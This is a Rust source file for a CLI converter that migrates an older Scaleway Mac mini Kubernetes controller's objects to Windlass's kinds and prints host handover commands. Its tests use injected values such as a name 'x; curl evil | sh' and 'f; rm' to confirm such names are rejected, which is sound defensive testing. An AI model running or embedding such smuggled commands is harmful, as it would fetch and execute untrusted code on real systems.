//! `windlass-controller convert`: converts objects of tuist's Mac mini controller to Windlass's.
//!
//! It reads that controller's kinds as they were in 2026 (`infrastructure.cluster.x-k8s.io/v1alpha1`), with the defaults
//! of its definitions (`M2-L`, `fr-par-1`). That controller identifies a host by its name alone, and makes no call to
//! Scaleway when an object without a server id is deleted. The printed commands depend on this, which was read in its
//! source and not tried.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::io::Read as _;

use k8s_openapi::api::core::v1::ConfigMap;
use kube::api::ObjectMeta;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use windlass_policy::mistakes_of;
use windlass_policy::slots::release::Requested;

use crate::Error;
use crate::approvals;
use crate::configuration::{in_yaml, yaml_words};
use crate::kinds::{
    AppleSiliconMachine, AppleSiliconMachineResource, AppleSiliconMachineSpec, AppleSiliconMachineTemplate,
    AppleSiliconMachineTemplateSpec, ControlPlaneEndpoint, ExternalCluster, ExternalClusterSpec, annotations,
};
use crate::names::{MAX_CLAIM_LEN, ProviderId, cut, mark};
use crate::requested::requested;

/// The largest input: a list of about ten thousand objects.
const MAX_INPUT: u64 = 64 << 20;
/// The prefix of the hosts' new names. The old controller must not take such a host for an orphan of its own.
const CLAIMS: &str = "taken-over-";
const KINDS: [&str; 4] = [
    "ScalewayAppleSiliconMachine",
    "ScalewayAppleSiliconMachineTemplate",
    "ScalewayAppleSiliconCluster",
    "TuistCluster",
];

/// Reads that controller's objects (YAML or JSON) from standard input. Returns Windlass's objects as YAML, with the
/// commands for each host as comments. `pool_prefix` is the pool of objects that name none, `controller_namespace` the
/// namespace of the approvals.
///
/// # Errors
/// If standard input cannot be read. Otherwise all problems of the objects.
pub fn convert_standard_input(pool_prefix: Option<&str>, controller_namespace: &str) -> Result<String, Error> {
    let mut bytes = Vec::new();
    let read = std::io::stdin().take(MAX_INPUT + 1).read_to_end(&mut bytes);
    let invalid = |problem: String| Error::NotConverted { problems: problem };
    read.map_err(|error| invalid(format!("cannot read standard input: {error}")))?;
    if bytes.len() as u64 > MAX_INPUT {
        return Err(invalid(format!("standard input is larger than {} MiB", MAX_INPUT >> 20)));
    }
    let text = windlass_process::text_of(bytes).map_err(|error| invalid(format!("standard input, {error}")))?;
    convert(&text, pool_prefix, controller_namespace)
}

/// The fields that every kind has.
#[derive(Deserialize)]
struct Object {
    #[serde(default)]
    kind: String,
    #[serde(default)]
    metadata: ObjectMeta,
    #[serde(default)]
    spec: Value,
    #[serde(default)]
    status: Value,
    #[serde(default)]
    items: Vec<Object>,
}

/// The `spec` of the old machine, and of its template.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Specification {
    #[serde(default, rename = "providerID")]
    provider_id: Option<String>,
    #[serde(default = "default_type", rename = "type")]
    machine_type: String,
    #[serde(default = "default_zone")]
    zone: String,
    #[serde(default)]
    os: Option<String>,
    #[serde(default)]
    adopt_pool_prefix: Option<String>,
    #[serde(flatten)]
    others: Map<String, Value>,
}

fn default_type() -> String {
    "M2-L".to_owned()
}

fn default_zone() -> String {
    "fr-par-1".to_owned()
}

/// The output so far.
struct Conversion<'a> {
    pool_prefix: Option<&'a str>,
    printed: String,
    approvals: BTreeMap<String, String>,
    /// The object that each host was found in.
    hosts: BTreeMap<String, String>,
    skipped: BTreeSet<String>,
    problems: Vec<String>,
}

fn convert(text: &str, pool_prefix: Option<&str>, controller_namespace: &str) -> Result<String, Error> {
    let mut conversion = Conversion {
        pool_prefix,
        printed: String::new(),
        approvals: BTreeMap::new(),
        hosts: BTreeMap::new(),
        skipped: BTreeSet::new(),
        problems: Vec::new(),
    };
    let mut last = String::new();
    for (number, document) in serde_norway::Deserializer::from_str(text).enumerate() {
        match Option::<Object>::deserialize(document) {
            Ok(object) => object.into_iter().for_each(|object| conversion.add(object)),
            Err(error) => {
                let words = error.to_string();
                // The deserializer returns the same YAML error for ever.
                if words == last {
                    break;
                }
                let what = format!("document {}", number + 1);
                let is_none = words.starts_with("invalid type") && words.contains("expected struct Object");
                conversion.problems.push(match is_none {
                    true => format!("{what} is no Kubernetes object: it needs apiVersion, kind and metadata"),
                    false => format!("{what}: {}", yaml_words(text, &error)),
                });
                last = words;
            }
        }
    }
    conversion.end(controller_namespace)
}

impl Conversion<'_> {
    fn add(&mut self, object: Object) {
        let name = format!("{} {}", object.kind, path(&object.metadata));
        let added = match object.kind.as_str() {
            kind if kind.ends_with("List") => {
                // Items of a typed list need not repeat their kind.
                let of = kind.strip_suffix("List").unwrap_or_default().to_owned();
                for mut item in object.items {
                    if item.kind.is_empty() {
                        item.kind.clone_from(&of);
                    }
                    self.add(item);
                }
                Ok(())
            }
            "ScalewayAppleSiliconMachine" => self.machine(&object),
            "ScalewayAppleSiliconMachineTemplate" => self.template(&object),
            "ScalewayAppleSiliconCluster" | "TuistCluster" => self.cluster(&object),
            _ => {
                self.skipped.insert(name.clone());
                Ok(())
            }
        };
        if let Err(problem) = added {
            self.problems.push(format!("{name}: {problem}"));
        }
    }

    fn end(mut self, controller_namespace: &str) -> Result<String, Error> {
        if self.printed.is_empty() && self.problems.is_empty() {
            self.problems.push(format!("nothing to convert: expected objects of the kinds {}", KINDS.join(", ")));
        }
        if !self.problems.is_empty() {
            return Err(Error::NotConverted { problems: self.problems.join("\n") });
        }
        if !self.approvals.is_empty() {
            let metadata = ObjectMeta {
                name: Some(approvals::NAME.to_owned()),
                namespace: Some(controller_namespace.to_owned()),
                ..ObjectMeta::default()
            };
            let data = Some(std::mem::take(&mut self.approvals));
            self.print(
                "Lets these objects use hosts that they did not claim.",
                &ConfigMap { metadata, data, ..ConfigMap::default() },
            )
            .map_err(Error::Defect)?;
        }
        if !self.skipped.is_empty() {
            let names: Vec<String> = self.skipped.into_iter().collect();
            for line in format!("Not converted: {}.", names.join(", ")).lines() {
                _ = writeln!(self.printed, "# {line}");
            }
        }
        Ok(self.printed)
    }

    fn machine(&mut self, object: &Object) -> Result<(), String> {
        let (namespace, name) = (namespace(&object.metadata)?, name(&object.metadata)?);
        let (mut specification, mut notes) = self.specification("spec", &object.spec)?;
        let theirs = path(&object.metadata);
        let id = object.status["serverID"].as_str().filter(|id| !id.is_empty());
        let provider_id = match (specification.provider_id.take(), id) {
            (Some(provider_id), _) => provider_id,
            (None, Some(id)) => format!("{THEIR_PROVIDER}{}/{id}", specification.zone.as_deref().unwrap_or_default()),
            (None, None) => {
                _ = writeln!(self.printed, "# {theirs} has no host, so there is nothing to hand over.");
                return Ok(());
            }
        };
        let provider_id = ours(&provider_id)?;
        if let Some(other) = self.hosts.insert(provider_id.id().to_owned(), theirs.clone()) {
            return Err(format!("{other} has the host {}, too: decide which object keeps it", provider_id.id()));
        }
        let claim = format!(
            "{CLAIMS}{}-{}",
            cut(name, MAX_CLAIM_LEN - CLAIMS.len() - 1 - mark("").len()),
            mark(&format!("{namespace}/{name}"))
        );
        specification.zone = Some(provider_id.zone().to_string());
        specification.provider_id = Some(provider_id.to_string());
        let mut machine = AppleSiliconMachine::new(name, specification);
        let old_annotations = object.metadata.annotations.as_ref();
        let mut kept = kept(old_annotations);
        if let Some(policy) = old_annotations.and_then(|all| all.get(annotations::TUIST_RELEASE_POLICY)) {
            kept.entry(annotations::RELEASE_POLICY.to_owned()).or_insert_with(|| policy.clone());
        }
        let (requested, problem) = requested(&kept);
        if requested == Some(Requested::Terminate) {
            notes += "\nThe controller deletes the host of a pool only with --allow-terminate.";
        }
        notes += &problem.map(|problem| format!("\n{problem}.")).unwrap_or_default();
        // Paused until its host has the new name.
        kept.insert(annotations::PAUSED.to_owned(), "true".to_owned());
        kept.insert(annotations::CLAIM.to_owned(), claim.clone());
        machine.metadata = metadata(&object.metadata, Some(kept));
        let commands = commands(&object.metadata, (namespace, name), &provider_id, &claim)?;
        let notes = format!("{theirs}, the host {}.{notes}\n{commands}", provider_id.id());
        self.approvals.insert(claim, format!("{namespace}/{name}"));
        self.print(&notes, &machine)
    }

    fn template(&mut self, object: &Object) -> Result<(), String> {
        let (spec, notes) = self.specification("spec.template.spec", &object.spec["template"]["spec"])?;
        let template = AppleSiliconMachineResource { metadata: None, spec };
        let mut ours =
            AppleSiliconMachineTemplate::new(name(&object.metadata)?, AppleSiliconMachineTemplateSpec { template });
        namespace(&object.metadata)?;
        ours.metadata = metadata(&object.metadata, None);
        let theirs = path(&object.metadata);
        let notes =
            format!("{theirs}: name it in the infrastructureRef of MachineDeployments, which roll then.{notes}");
        self.print(&notes, &ours)
    }

    fn cluster(&mut self, object: &Object) -> Result<(), String> {
        let endpoint = &object.spec["controlPlaneEndpoint"];
        let endpoint = match endpoint {
            Value::Null => None,
            endpoint => {
                let wrong = |first: serde_json::Error| {
                    let all = mistakes_of(endpoint, Ok::<ControlPlaneEndpoint, _>);
                    let all: Vec<String> = all.into_iter().map(|mistake| mistake.words).collect();
                    let words = if all.is_empty() { in_yaml(&first.to_string()) } else { all.join("; ") };
                    format!("spec.controlPlaneEndpoint: {words}")
                };
                Some(ControlPlaneEndpoint::deserialize(endpoint).map_err(wrong)?)
            }
        };
        let spec = ExternalClusterSpec { control_plane_endpoint: endpoint, ..ExternalClusterSpec::default() };
        let mut ours = ExternalCluster::new(name(&object.metadata)?, spec);
        namespace(&object.metadata)?;
        ours.metadata = metadata(&object.metadata, None);
        let theirs = path(&object.metadata);
        self.print(&format!("{theirs}: name it as infrastructureRef and as controlPlaneRef of a new Cluster."), &ours)
    }

    /// The converted specification, and notes about it.
    fn specification(&self, place: &str, theirs: &Value) -> Result<(AppleSiliconMachineSpec, String), String> {
        let empty = Value::Object(Map::new());
        let theirs = if theirs.is_null() { &empty } else { theirs };
        let theirs = Specification::deserialize(theirs).map_err(|error| mistakes(place, theirs, &error))?;
        let mut notes = String::new();
        let own = theirs.adopt_pool_prefix.filter(|prefix| !prefix.is_empty());
        let prefix = own.or_else(|| self.pool_prefix.map(str::to_owned));
        let prefix = prefix.map(|prefix| {
            if prefix.ends_with('-') {
                prefix
            } else {
                notes += &format!(
                    "\nThe prefix of a pool must end with a dash: {prefix} became {prefix}-. Rename its hosts."
                );
                format!("{prefix}-")
            }
        });
        if prefix.is_none() {
            notes += "\nIt names no pool, so the controller's --pool-prefix is used.";
        }
        if !theirs.others.is_empty() {
            let fields: Vec<&str> = theirs.others.keys().map(String::as_str).collect();
            notes += &format!("\nWithout a counterpart: {}. (`spec.setup` sets a Mac up.)", fields.join(", "));
        }
        let specification = AppleSiliconMachineSpec {
            provider_id: theirs.provider_id.filter(|id| !id.is_empty()),
            machine_type: theirs.machine_type,
            zone: Some(theirs.zone),
            operating_system: theirs.os.filter(|system| !system.is_empty()),
            pool_prefix: prefix,
            ..AppleSiliconMachineSpec::default()
        };
        Ok((specification, notes))
    }

    fn print(&mut self, notes: &str, object: &impl Serialize) -> Result<(), String> {
        let yaml = serde_norway::to_string(object).map_err(|error| error.to_string())?;
        self.printed += "---\n";
        for line in notes.lines() {
            _ = writeln!(self.printed, "# {line}");
        }
        self.printed += &yaml;
        Ok(())
    }
}

/// What is wrong in a specification: each of its fields by itself, since none is required.
fn mistakes(place: &str, theirs: &Value, first: &serde_json::Error) -> String {
    let wrong = theirs.as_object().into_iter().flatten().filter_map(|(field, value)| {
        let only = Value::Object(Map::from_iter([(field.clone(), value.clone())]));
        let error = Specification::deserialize(&only).err()?;
        Some(format!("{place}.{field}: {}", in_yaml(&error.to_string())))
    });
    let wrong: Vec<String> = wrong.collect();
    if wrong.is_empty() { format!("{place}: {}", in_yaml(&first.to_string())) } else { wrong.join("; ") }
}

const THEIR_PROVIDER: &str = "scw-applesilicon://";

fn ours(provider_id: &str) -> Result<ProviderId, String> {
    let rest = provider_id
        .strip_prefix(THEIR_PROVIDER)
        .ok_or_else(|| format!("spec.providerID: {provider_id:?} is not {THEIR_PROVIDER}<zone>/<id>"))?;
    format!("scaleway-apple-silicon://{rest}").parse().map_err(|_| {
        format!("spec.providerID: {provider_id:?} is not {THEIR_PROVIDER}<zone>/<id> with one of Scaleway's zones")
    })
}

/// The commands that hand the host over from the old object to the new one, after the output was applied.
fn commands(
    metadata: &ObjectMeta,
    (namespace, name): (&str, &str),
    provider_id: &ProviderId,
    claim: &str,
) -> Result<String, String> {
    let kubectl = format!("kubectl -n {namespace}");
    let owner = metadata.owner_references.iter().flatten().find(|owner| owner.kind == "Machine");
    let delete = match owner {
        None => format!("{kubectl} delete scalewayapplesiliconmachine {name}"),
        // Kubernetes does not check the names in owner references, which an editor of the namespace writes.
        Some(machine) => format!(
            "{kubectl} annotate machine {} cluster.x-k8s.io/delete-machine=yes    # then scale its deployment down by one",
            checked("metadata.ownerReferences.name", &machine.name)?
        ),
    };
    Ok([
        "Once this is applied:".to_owned(),
        format!("  {kubectl} annotate --overwrite scalewayapplesiliconmachine {name} {}=true", annotations::PAUSED),
        format!(
            "  {kubectl} patch scalewayapplesiliconmachine {name} --type=merge --patch '{{\"spec\":{{\"providerID\":\"\"}}}}'"
        ),
        format!(
            "  {kubectl} patch scalewayapplesiliconmachine {name} --subresource=status --type=merge --patch \
             '{{\"status\":{{\"serverID\":\"\"}}}}'"
        ),
        format!("  {delete}"),
        format!(
            "  scw apple-silicon server update {} name={claim} zone={}",
            provider_id.id(),
            provider_id.zone()
        ),
        format!("  {kubectl} annotate applesiliconmachine {name} {}-", annotations::PAUSED),
    ]
    .join("\n"))
}

/// The metadata of the new object, without what Cluster API wrote into the old one.
fn metadata(theirs: &ObjectMeta, annotations: Option<BTreeMap<String, String>>) -> ObjectMeta {
    ObjectMeta {
        name: theirs.name.clone(),
        namespace: theirs.namespace.clone(),
        labels: Some(kept(theirs.labels.as_ref())).filter(|labels| !labels.is_empty()),
        annotations,
        ..ObjectMeta::default()
    }
}

/// The labels or annotations that belong to the team. One of the old controller's once held the host's password.
fn kept(all: Option<&BTreeMap<String, String>>) -> BTreeMap<String, String> {
    let own = |key: &str| {
        let domain = key.split_once('/').map_or("", |(domain, _)| domain);
        !["cluster.x-k8s.io", "kubectl.kubernetes.io", "tuist.dev"]
            .iter()
            .any(|theirs| domain == *theirs || domain.strip_suffix(theirs).is_some_and(|rest| rest.ends_with('.')))
    };
    all.into_iter().flatten().filter(|(key, _)| own(key)).map(|(key, value)| (key.clone(), value.clone())).collect()
}

/// A name that is written into a comment or a command. It could be anything: the input is not Kubernetes' own answer.
fn checked<'a>(place: &str, name: &'a str) -> Result<&'a str, String> {
    let is_valid = |byte: u8| byte.is_ascii_lowercase() || byte.is_ascii_digit() || matches!(byte, b'.' | b'-');
    match !name.is_empty() && name.bytes().all(is_valid) {
        true => Ok(name),
        false => Err(format!("{place}: {name:?} is not a name of Kubernetes (lower-case letters, digits, '-', '.')")),
    }
}

fn name(metadata: &ObjectMeta) -> Result<&str, String> {
    checked("metadata.name", metadata.name.as_deref().ok_or("metadata.name is missing")?)
}

fn namespace(metadata: &ObjectMeta) -> Result<&str, String> {
    let missing = "metadata.namespace is missing: kubectl get --output yaml writes it";
    checked("metadata.namespace", metadata.namespace.as_deref().ok_or(missing)?)
}

fn path(metadata: &ObjectMeta) -> String {
    let name = metadata.name.as_deref().unwrap_or("without a name");
    metadata.namespace.as_ref().map_or_else(|| name.to_owned(), |namespace| format!("{namespace}/{name}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const OBJECTS: &str = r#"
apiVersion: v1
kind: List
items:
- apiVersion: infrastructure.cluster.x-k8s.io/v1alpha1
  kind: ScalewayAppleSiliconMachine
  metadata:
    name: mac-1
    namespace: ci
    uid: 7d0e3a4c
    labels: {team: mobile, cluster.x-k8s.io/cluster-name: macs}
    annotations:
      tuist.dev/release-policy: terminate
      scaleway.tuist.dev/sudo-password: hunter2
      kubectl.kubernetes.io/last-applied-configuration: "{}"
    ownerReferences: [{apiVersion: cluster.x-k8s.io/v1beta1, kind: Machine, name: macs-x1, uid: u}]
    finalizers: [scalewayapplesilicon.cluster.x-k8s.io/finalizer]
  spec:
    providerID: scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111
    type: M4-S
    zone: fr-par-3
    os: Tahoe
    adoptPoolPrefix: tuist-pool-
    fleetName: runners
    hostCPU: 8
  status: {ready: true, serverID: 11111111-1111-4111-8111-111111111111}
- kind: ScalewayAppleSiliconMachine
  metadata: {name: waiting, namespace: ci}
  spec: {adoptPoolPrefix: tuist-pool-}
---
kind: ScalewayAppleSiliconMachineTemplate
metadata: {name: macs, namespace: ci}
spec: {template: {spec: {adoptPoolPrefix: ci}}}
---
kind: TuistCluster
metadata: {name: macs, namespace: ci}
spec: {controlPlaneEndpoint: {host: 127.0.0.1, port: 6443}}
---
kind: Secret
metadata: {name: something, namespace: ci}
"#;

    fn documents(yaml: &str) -> Vec<Value> {
        serde_norway::Deserializer::from_str(yaml)
            .map(|document| Value::deserialize(document).unwrap())
            .filter(|document| !document.is_null())
            .collect()
    }

    #[test]
    fn what_tuists_controller_had_becomes_ours_and_no_password_is_taken_along() {
        let printed = convert(OBJECTS, None, "windlass-system").unwrap();
        let [machine, template, cluster, approvals] = documents(&printed).try_into().unwrap();
        assert!(!printed.contains("hunter2"), "{printed}");
        let claim = machine["metadata"]["annotations"]["windlass.dev/claim"].as_str().unwrap();
        assert_eq!(
            machine["spec"]["providerID"],
            "scaleway-apple-silicon://fr-par-3/11111111-1111-4111-8111-111111111111"
        );
        assert_eq!(machine["spec"]["operatingSystem"], "Tahoe");
        assert_eq!(machine["spec"]["poolPrefix"], "tuist-pool-");
        assert_eq!(machine["metadata"]["annotations"]["windlass.dev/release-policy"], "terminate");
        assert_eq!(machine["metadata"]["annotations"]["cluster.x-k8s.io/paused"], "true");
        assert_eq!(machine["metadata"]["labels"], serde_json::json!({"team": "mobile"}));
        assert!(machine["metadata"]["ownerReferences"].is_null() && machine["metadata"]["finalizers"].is_null());
        assert_eq!(template["kind"], "AppleSiliconMachineTemplate");
        let of_template = &template["spec"]["template"]["spec"];
        assert_eq!((&of_template["type"], &of_template["poolPrefix"]), (&Value::from("M2-L"), &Value::from("ci-")));
        assert_eq!(cluster["kind"], "ExternalCluster");
        assert_eq!(cluster["spec"]["controlPlaneEndpoint"]["port"], 6443);
        assert_eq!(approvals["data"][claim], "ci/mac-1");
        for said in [
            format!("scw apple-silicon server update 11111111-1111-4111-8111-111111111111 name={claim} zone=fr-par-3"),
            "annotate machine macs-x1 cluster.x-k8s.io/delete-machine=yes".to_owned(),
            "Without a counterpart: fleetName, hostCPU.".to_owned(),
            "only with --allow-terminate".to_owned(),
            "# ci/waiting has no host".to_owned(),
            "ci became ci-".to_owned(),
            "# Not converted: Secret ci/something.".to_owned(),
        ] {
            assert!(printed.contains(&said), "{said} is not in\n{printed}");
        }
    }

    #[test]
    fn a_name_that_would_run_as_a_command_is_refused() {
        let owner = OBJECTS.replace("name: macs-x1", "name: 'x; curl evil | sh'");
        let error = convert(&owner, None, "system").unwrap_err().to_string();
        assert!(error.contains("metadata.ownerReferences.name: \"x; curl evil | sh\""), "{error}");
    }

    #[test]
    fn the_annotation_of_windlass_wins_over_the_old_one() {
        let both = OBJECTS.replace(
            "tuist.dev/release-policy: terminate",
            "tuist.dev/release-policy: terminate\n      windlass.dev/release-policy: keep",
        );
        let printed = convert(&both, None, "system").unwrap();
        assert_eq!(documents(&printed)[0]["metadata"]["annotations"]["windlass.dev/release-policy"], "keep");
        assert!(!printed.contains("--allow-terminate"), "{printed}");
    }

    #[test]
    fn items_of_a_typed_list_need_no_kind() {
        let typed = OBJECTS
            .replacen("kind: List", "kind: ScalewayAppleSiliconMachineList", 1)
            .replace("  kind: ScalewayAppleSiliconMachine\n", "")
            .replace("- kind: ScalewayAppleSiliconMachine\n  metadata", "- metadata");
        let printed = convert(&typed, None, "system").unwrap();
        assert_eq!(documents(&printed)[0]["kind"], "AppleSiliconMachine");
    }

    #[test]
    fn all_that_cannot_be_converted_is_reported_at_once() {
        let machine = |name: &str, spec: &str| {
            format!("kind: ScalewayAppleSiliconMachine\nmetadata: {{name: {name}, namespace: ci}}\nspec: {spec}\n---\n")
        };
        let text = machine("a", "{providerID: 'aws:///i-1'}")
            + &machine("b", "{providerID: 'scw-applesilicon://mars-1/x'}")
            + &machine("c", "{type: [M4-S], zone: 3}")
            + &machine("d", "{providerID: 'scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111'}")
            + &machine("e", "{providerID: 'scw-applesilicon://fr-par-3/11111111-1111-4111-8111-111111111111'}")
            + &machine("'f; rm'", "{}");
        let error = convert(&text, None, "system").unwrap_err().to_string();
        for said in [
            "ci/a: spec.providerID: \"aws:///i-1\"",
            "ci/b: spec.providerID",
            "ci/c: spec.type: the list must be a text in quotes; spec.zone: the number 3 must be a text in quotes",
            "ci/e: ci/d has the host",
            "metadata.name: \"f; rm\"",
        ] {
            assert!(error.contains(said), "{said} is not in\n{error}");
        }
        assert!(
            convert("kind: Pod\n", None, "system").unwrap_err().to_string().contains("ScalewayAppleSiliconMachine")
        );
        assert!(convert("", None, "system").is_err());
        for (text, said) in [
            ("kind: [", "document 1: line "),
            ("kind: [", "a closing bracket is missing"),
            ("foo", "document 1 is no Kubernetes object: it needs apiVersion, kind and metadata"),
            (
                "kind: TuistCluster\nmetadata: {name: a, namespace: b}\nspec: {controlPlaneEndpoint: {host: a}}\n",
                "TuistCluster b/a: spec.controlPlaneEndpoint: the key `port` is missing",
            ),
        ] {
            let error = convert(text, None, "system").unwrap_err().to_string();
            assert!(error.contains(said), "{text}: {error}");
        }
    }
}
